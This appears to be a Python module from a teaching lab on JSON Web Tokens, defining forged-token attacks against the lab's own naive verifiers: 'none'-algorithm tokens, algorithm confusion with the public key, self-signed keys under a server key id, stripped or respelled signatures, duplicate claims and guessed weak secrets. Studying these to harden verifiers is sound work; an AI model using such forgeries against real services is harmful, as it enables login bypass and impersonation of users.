"""The attacks of the laboratory: what is sent, and whom it is meant for."""

import json
from collections.abc import Callable
from dataclasses import dataclass

from examples.ch03_tokens.experiments import naive
from examples.ch03_tokens.experiments.crafted import crafted, raw_token
from examples.ch03_tokens.experiments.naive import Naive
from examples.ch03_tokens.experiments.naive_keys import MALLORY, SECRET
from examples.ch03_tokens.experiments.targets import Target
from examples.ch03_tokens.jwt import base64url_decode, base64url_encode

Forge = Callable[[Target], str]
BOTH = ("HS256", "key set")
DAY = 86_400
HUGE = 1_000_000  # characters of one claim


@dataclass(frozen=True, slots=True)
class Attack:
    """A token, the naive verifier that it is meant for, and where that one falls."""

    name: str
    meant_for: Naive
    forge: Forge
    on: tuple[str, ...] = BOTH
    server: Callable[[Target], Target] = lambda target: target


def as_alice(target: Target) -> dict[str, object]:
    """Return the claims that Mallory would like to have."""
    return target.claims | {"sub": "alice"}


def unsigned(alg: str, target: Target) -> str:
    """Write alice's claims under an algorithm that signs nothing."""
    head = json.dumps(target.header | {"alg": alg}).encode()
    return raw_token(head, json.dumps(as_alice(target)).encode(), b"")


def tampered(target: Target) -> str:
    """Write alice's name into a token of mallory's, and keep the signature."""
    head, _, signature = target.token().split(".")
    return (
        f"{head}.{base64url_encode(json.dumps(as_alice(target)).encode())}.{signature}"
    )


def old_signature(target: Target) -> str:
    """Say "none" and leave a signature that fitted once."""
    return unsigned("none", target) + target.token().rpartition(".")[2]


def flipped(target: Target) -> str:
    """Change one bit of the payload: y is 0x79, x is 0x78."""
    head, payload, signature = target.token().split(".")
    other = base64url_decode(payload).replace(b"mallory", b"mallorx")
    return f"{head}.{base64url_encode(other)}.{signature}"


def by_hmac(secret: bytes, kid: object, target: Target, **header: object) -> str:
    """Sign alice's claims with HS256 and a secret that the server may fall for."""
    fields = target.header | {"alg": "HS256", "kid": kid} | header
    key = {"kty": "oct", "k": base64url_encode(secret)}
    return crafted(fields, as_alice(target), key)


def confused(form: str, target: Target) -> str:
    """Sign with the server's public key as if it were an HMAC secret."""
    return by_hmac(naive.key_file(target, form), target.signing["kid"], target)


def with_own_key(target: Target) -> str:
    """Sign with a key of Mallory's own under the name of one of the server's."""
    if target.algorithm == "HS256":
        return by_hmac(SECRET, target.signing["kid"], target)
    return by_mallory(target, kid="ed-1")


def by_mallory(target: Target, **header: object) -> str:
    """Sign alice's claims with a key of Mallory's own."""
    fields = target.header | {"alg": "EdDSA"} | header
    return crafted(fields, as_alice(target), MALLORY)


def without_signature(dot: str, target: Target) -> str:
    """Leave the signature out, with or without the dot before it."""
    return tampered(target).rpartition(".")[0] + dot


def twice_subject(target: Target) -> str:
    """Have a payload signed in which sub stands twice."""
    payload = json.dumps(target.claims)[:-1] + ', "sub": "alice"}'
    return target.titled(payload.encode())


def twice_algorithm(target: Target) -> str:
    """Have a header signed in which alg stands twice."""
    head = json.dumps(target.header)[:-1] + f', "alg": "{target.algorithm}"}}'
    return crafted(target.header, target.claims, target.signing, head=head.encode())


def respelled(change: Callable[[str], str], target: Target) -> str:
    """Write the same signature in other letters."""
    signed, _, signature = target.token().rpartition(".")
    return f"{signed}.{change(signature)}"


def other_letters(signature: str) -> str:
    """Use the letters of plain base64."""
    return signature.replace("-", "+").replace("_", "/")


def padded(signature: str) -> str:
    """Fill up with =, as plain base64 does."""
    return signature + "=" * (-len(signature) % 4)


def loose_end(signature: str) -> str:
    """Set a bit that no byte uses."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return signature[:-1] + letters[letters.index(signature[-1]) | 1]


def weak(secret: str, target: Target) -> Target:
    """Give the server a secret that stands in every list of secrets."""
    return target.saying(k=base64url_encode(secret.encode()))


def guessed(target: Target) -> str:
    """Sign as alice with the secret, which a list of common ones had."""
    return crafted(target.header, as_alice(target), target.signing)


def header(name: str, value: object) -> Forge:
    """Sign Mallory's own claims under a header with one more member."""
    return lambda target: target.titled(**{name: value})


def claim(name: str, change: object) -> Forge:
    """Sign claims with one that is changed; a number counts from now."""
    return lambda target: target.token(
        **{name: target.now + change if isinstance(change, int) else change}
    )
